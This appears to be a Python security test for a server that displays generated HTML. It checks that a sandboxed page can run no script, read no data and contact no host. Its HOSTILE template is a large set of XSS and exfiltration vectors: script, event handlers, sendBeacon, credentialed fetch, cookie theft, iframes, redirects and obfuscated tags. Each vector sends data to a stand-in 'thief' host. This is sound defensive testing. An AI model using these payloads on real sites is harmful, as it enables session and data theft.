"""A generated page in a real browser: it runs no script, reads nothing from the server, and contacts no host."""

import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

from db.session import Database
from tests.api.conftest import Worker
from tests.api.helpers import REQUEST
from tests.attacks.browser import new_page
from tests.attacks.conftest import Api
from tests.processes import eventually

HOSTILE = """<!DOCTYPE html><html><head><base href="{thief}/base/">
<meta http-equiv="refresh" content="2;url={thief}/refresh">
<meta http-equiv="Content-Security-Policy" content="default-src * data: 'unsafe-inline'">
<link rel="stylesheet" href="{thief}/stylesheet"><link rel="icon" href="{thief}/icon">
<link rel="preload" as="image" href="{thief}/preload"><link rel="prefetch" href="{thief}/prefetch">
<link rel="preconnect" href="{thief}"><link rel="manifest" href="{thief}/manifest">
<style>@import "{thief}/import"; @font-face {{ font-family: f; src: url({thief}/font) }}
body {{ font-family: f; background: url({thief}/background) }} button {{ position: fixed; inset: 0 }}</style>
<script src="{thief}/script"></script><script type="module" src="{thief}/module"></script>
<script>
document.title = "ran";
function tell(what) {{ navigator.sendBeacon("{thief}/" + what); new Image().src = "{thief}/image-" + what; }}
function attempt(action) {{ try {{ action(); }} catch (error) {{ }} }}
tell("ran");
attempt(() => {{ document.cookie = "stolen=1"; tell("cookie-" + document.cookie); }});
attempt(() => {{ localStorage.setItem("a", "b"); tell("storage"); }});
attempt(() => fetch("/v1/jobs", {{credentials: "include"}}).then(r => r.text()).then(t => tell("jobs-" + t.length)));
attempt(() => fetch("{thief}/fetch"));
attempt(() => new WebSocket("{thief}/socket".replace("http", "ws")));
attempt(() => navigator.serviceWorker.register("/v1/generations/x/html"));
attempt(() => window.open("{thief}/open"));
attempt(() => parent.postMessage("x", "*"));
</script></head>
<body onload="tell('onload')"><img src="{thief}/img" onerror="tell('onerror')">
<img src="data:image/png;base64,x" onerror="tell('onerror-data')"><svg onload="tell('svg')">
<script>tell("svg-script")</script><image href="{thief}/svg-image"></image></svg><iframe src="{thief}/iframe"></iframe>
<iframe srcdoc="&lt;script&gt;setTimeout(() =&gt; top.location = '{thief}/top', 2000)&lt;/script&gt;
&lt;img src='{thief}/srcdoc'&gt;"></iframe>
<IFRAME/srcdoc="&lt;link rel=preconnect href={thief}>"></IFRAME><LiNk
rel="pre&#99;onnect" href="{thief}"><iframe src="javascript:parent.tell('javascript')"></iframe>
<object data="{thief}/object"></object><embed src="{thief}/embed">
<video src="{thief}/video" poster="{thief}/poster"></video><audio src="{thief}/audio" autoplay></audio>
<details open ontoggle="tell('toggle')"></details>
<input autofocus onfocus="tell('focus')">
<form action="{thief}/form" method="post"><input name="a" value="b"><button>Click</button></form>
</body></html>"""


@contextmanager
def listening(page: str = "") -> Iterator[tuple[str, set[str]]]:
    """Yield the address of a server with `page` at /page, and the set of requested paths. `connected` is in the set
    after any connection."""
    requested: set[str] = set()

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            requested.add(self.path)
            body = page.encode() if self.path == "/page" else b""
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        do_POST = do_GET

        def setup(self) -> None:
            requested.add("connected")
            super().setup()

        def log_message(self, format: str, *args: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield f"http://127.0.0.1:{server.server_port}", requested
    finally:
        server.shutdown()


def test_the_hostile_page_does_harm_when_nothing_stops_it(tmp_path: Path) -> None:
    """Without this, the test below would prove nothing."""
    with listening() as (thief, told), listening(HOSTILE.format(thief=thief)) as (origin, _):
        expected = "ran fetch script stylesheet import img iframe background svg-image socket poster cookie-stolen=1"
        with new_page(tmp_path, {}) as page:
            page.open(f"{origin}/page")
            eventually(lambda: told >= {f"/{what}" for what in expected.split()}, f"{expected}; there is {told}")
            eventually(lambda: bool(told & {"/refresh", "/top"}), "the page leads elsewhere")


def test_the_hostile_page_does_no_harm_when_the_server_shows_it(lasting_api: Api, tmp_path: Path) -> None:
    worker = Worker(Database(lasting_api.database_url))
    with listening() as (thief, told), lasting_api.client() as client:
        job = client.post("/v1/generations", json=REQUEST).json()["id"]
        worker.finish(job, completion=HOSTILE.format(thief=thief))
        with new_page(tmp_path, {"Authorization": f"Bearer {lasting_api.secret}"}) as page:
            page.call("Network.setCookie", url=lasting_api.address, name="session", value="planted")
            page.open(f"{lasting_api.address}/v1/generations/{job}/html")
            assert page.evaluate("document.forms.length") == 1, "it is shown"
            page.click(100, 100)
            time.sleep(3)
            assert page.evaluate("location.pathname") == f"/v1/generations/{job}/html"
            assert page.evaluate("document.title") == ""
            assert page.evaluate("origin") == "null"
            assert page.evaluate("document.cookie") == "SecurityError"
            assert page.evaluate("localStorage") == "SecurityError"
            cookies = page.call("Network.getCookies", urls=[lasting_api.address])["cookies"]
            assert [(cookie["name"], cookie["value"]) for cookie in cookies] == [("session", "planted")]
        assert told == set()
        assert [item["id"] for item in client.get("/v1/jobs").json()["items"]] == [job]
